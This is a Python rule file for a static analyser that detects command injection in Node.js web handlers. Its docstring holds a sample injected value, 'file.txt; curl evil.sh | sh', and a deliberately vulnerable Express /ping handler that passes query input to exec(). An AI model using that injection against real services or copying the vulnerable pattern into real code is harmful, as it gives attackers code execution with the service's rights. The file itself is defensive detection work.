"""
## What it does
Follows request data from Express, Fastify and NestJS handlers into a shell command line:
`child_process.exec()`/`execSync()`, `shelljs.exec()`, `execa.command()`, `spawn()`/`execFile()`
with `{ shell: true }` or a shell as the program (`spawn("sh", ["-c", cmd])`), and the program
name of `spawn()`/`execFile()`/`fork()`. `util.promisify(exec)` keeps the callee.

## Why it matters
A shell parses `;`, `&&`, `|`, `$(...)` and backquotes: `file.txt; curl evil.sh | sh` runs the
attacker's program with the service's rights, secrets and network access.

## Example
    const express = require("express");
    const { exec } = require("child_process");

    const app = express();

    app.get("/ping", (req, res) => {
      exec(`ping -c 1 ${req.query.host}`, (err, stdout) => {
        res.type("text/plain").send(stdout);
      });
    });

## Use instead
    const express = require("express");
    const { execFile } = require("child_process");

    const app = express();

    app.get("/ping", (req, res) => {
      execFile("ping", ["-c", "1", String(req.query.host)], (err, stdout) => {
        res.type("text/plain").send(stdout);
      });
    });

## Known limitations
An argument vector given to `execFile()`/`spawn()` without a shell is not flagged (no shell parses
it), though a value starting with `-` may still be read as an option by the program. Commands
assembled in another process or read from a queue are not followed.
"""
from __future__ import annotations

from prodcheck.model import Confidence
from prodcheck.rules.javascript.security.taint_rule import javascript_taint_rule

RULE = javascript_taint_rule(
    "command", doc=__doc__, confidence=Confidence.HIGH,
    fix="Run the program with an argument array and no shell (`execFile(\"ping\", [\"-c\", \"1\", "
        "host])`); validate the value against an allow-list or a strict pattern first.",
)
